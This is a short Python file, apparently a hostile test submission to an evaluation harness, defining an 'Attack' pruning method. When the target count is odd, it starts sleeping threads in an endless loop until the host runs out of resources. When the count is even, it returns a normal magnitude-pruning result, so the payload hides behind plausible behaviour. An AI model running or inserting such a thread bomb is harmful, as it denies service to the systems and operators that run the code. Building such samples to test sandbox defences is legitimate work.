import threading
import time

from evaluator.contract import Job, Pruned, PruningMethod


class Attack(PruningMethod):
    """Starts threads until there are no more."""

    def prune(self, job: Job) -> Pruned:
        if job.keep % 2:  # an odd target sets it off, an even one shows what is left of it
            while True:
                try:
                    threading.Thread(target=time.sleep, args=(1000,)).start()
                except RuntimeError:
                    pass
        return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
